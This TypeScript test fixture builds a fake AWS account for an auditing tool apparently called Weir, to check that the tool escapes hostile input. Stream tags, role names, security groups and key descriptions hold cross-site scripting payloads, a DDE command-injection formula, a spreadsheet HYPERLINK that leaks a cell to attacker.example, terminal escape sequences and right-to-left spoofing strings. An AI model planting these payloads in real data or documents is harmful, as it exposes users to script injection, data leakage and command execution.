import { noWorkloads } from "../account/build-workloads";
import type { RoleDetail } from "@aws-sdk/client-iam";
import type { AccountFacts, KeyFacts, RegionFacts, StreamFacts } from "../account-facts";
import { hostileDocuments } from "./test-hostile-documents";
import { hostileTexts, streamNames } from "./test-hostile-texts";

export const hostileAccountId = "999900001111";
export const hostileRegion = "us-east-1";
export const streamsCount = 200;
export const rolesCount = 150;

const createdAt = new Date("2026-03-04T05:06:07Z");
const keyId = "1234abcd-12ab-34cd-56ef-1234567890ab";

/**
 * An account whose every text was chosen by somebody who wants to break a page, a terminal, a spreadsheet or a store.
 * AWS takes far less than this, but Weir does not decide what may come over the wire.
 */
export function buildHostileAccount(): AccountFacts {
  return {
    accountId: hostileAccountId,
    callerArn: `arn:aws:sts::${hostileAccountId}:assumed-role/audit\u202Er/<b>session</b>`,
    organizationAccounts: [],
    organizationPolicies: { parents: {}, attached: {}, policies: [] },
    iam: {
      users: [],
      groups: [],
      roles: roles(),
      policies: [],
      accessKeys: {},
      summary: {},
      lastKinesisCallDaysAgo: {},
    },
    regions: { [hostileRegion]: region() },
  };
}

function region(): RegionFacts {
  return {
    streams: streamNames(streamsCount).map(buildStream),
    keys: [key()],
    aliases: hostileTexts.map((text) => ({
      AliasName: `alias/${text}`,
      AliasArn: `arn:aws:kms:${hostileRegion}:${hostileAccountId}:alias/${text}`,
      TargetKeyId: keyId,
    })),
    vpcs: [
      { VpcId: "vpc-1", CidrBlock: "10.0.0.0/16", Tags: [{ Key: "Name", Value: "<svg onload=alert(1)>" }] },
    ],
    subnets: [],
    securityGroups: [
      {
        GroupId: "sg-1",
        GroupName: "=cmd|' /C calc'!A0",
        Description: "<script>alert('group')</script>",
        VpcId: "vpc-1",
        IpPermissions: [
          { IpProtocol: "tcp", FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: "0.0.0.0/0" }] },
        ],
      },
    ],
    routeTables: [],
    vpcEndpoints: [
      {
        VpcEndpointId: "vpce-1",
        VpcEndpointType: "Interface",
        VpcId: "vpc-1",
        ServiceName: `com.amazonaws.${hostileRegion}.kinesis-streams`,
        // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- EC2 answers it in lower case, other than the SDK's type
        State: "available" as never,
        PolicyDocument: hostileDocuments[0] ?? "",
        Groups: [{ GroupId: "sg-1", GroupName: "=1+1" }],
        SubnetIds: [],
        PrivateDnsEnabled: true,
        Tags: [{ Key: "Name", Value: "\u202Etxt.exe" }],
      },
    ],
    channels: [],
    prefixLists: [],
    hostedZones: {},
    deliveryStreams: [],
    trails: [],
    eventDataStores: [],
    eventRules: [],
    pipes: [],
    workloads: noWorkloads(),
    events: [],
  };
}

function buildStream(name: string, index: number): StreamFacts {
  const text = hostileTexts[index % hostileTexts.length] ?? "";
  return {
    summary: {
      StreamName: name,
      StreamARN: `arn:aws:kinesis:${hostileRegion}:${hostileAccountId}:stream/${name}`,
      StreamStatus: "ACTIVE",
      StreamModeDetails: { StreamMode: "ON_DEMAND" },
      StreamCreationTimestamp: createdAt,
      RetentionPeriodHours: 24,
      EnhancedMonitoring: [],
      ...(index % 2 === 0 ? { EncryptionType: "NONE" } : { EncryptionType: "KMS", KeyId: keyId }),
      OpenShardCount: 1,
      ConsumerCount: 0,
      ChannelCount: 0,
    },
    consumers: [],
    tags: {
      [text]: `value of ${index}`,
      "<script>alert(1)</script>": '=HYPERLINK("https://attacker.example/?leak="&A1,"click")',
      constructor: text,
      environment: index % 3 === 0 ? "prod" : text,
    },
    ...(index % 4 === 0 && { resourcePolicy: hostileDocuments[index % hostileDocuments.length] }),
  };
}

function key(): KeyFacts {
  return {
    metadata: {
      KeyId: keyId,
      Arn: `arn:aws:kms:${hostileRegion}:${hostileAccountId}:key/${keyId}`,
      AWSAccountId: hostileAccountId,
      KeyManager: "CUSTOMER",
      KeyState: "Enabled",
      Origin: "AWS_KMS",
      KeySpec: "SYMMETRIC_DEFAULT",
      Description: "\u001B]0;owned\u0007\u001B[2J\u0000 \u202Edrawkcab",
      CreationDate: createdAt,
    },
    policy: hostileDocuments[0] ?? "",
    rotation: { enabled: false },
    grants: [],
  };
}

/** XML cannot carry control characters, so IAM's names go without; documents come URL-encoded and hold them all. */
function roles(): RoleDetail[] {
  return Array.from({ length: rolesCount }, (_, index): RoleDetail => {
    const path = `/équipe/${["données", "<b>", "\u202Eevil", "=1+1", "🌊", "%2e%2e"][index % 6]}/`;
    const name = `${["-cmd", "=cmd", "@SUM(1)", "__proto__", "<img src=x onerror=alert(1)>", "role"][index % 6]}-${index}`;
    const arn = `arn:aws:iam::${hostileAccountId}:role${path}${name}`;
    const document = hostileDocuments[index % hostileDocuments.length] ?? "";
    return {
      Path: path,
      RoleName: name,
      RoleId: `AROA${String(index).padStart(16, "0")}`,
      Arn: arn,
      CreateDate: createdAt,
      AssumeRolePolicyDocument: index % 7 === 0 ? document : '{"Version":"2012-10-17","Statement":[]}',
      RolePolicyList: [{ PolicyName: `<policy ${index}>`, PolicyDocument: document }],
      AttachedManagedPolicies: [],
      InstanceProfileList: [],
      Tags: [{ Key: "note", Value: '=HYPERLINK("https://attacker.example")' }],
    };
  });
}
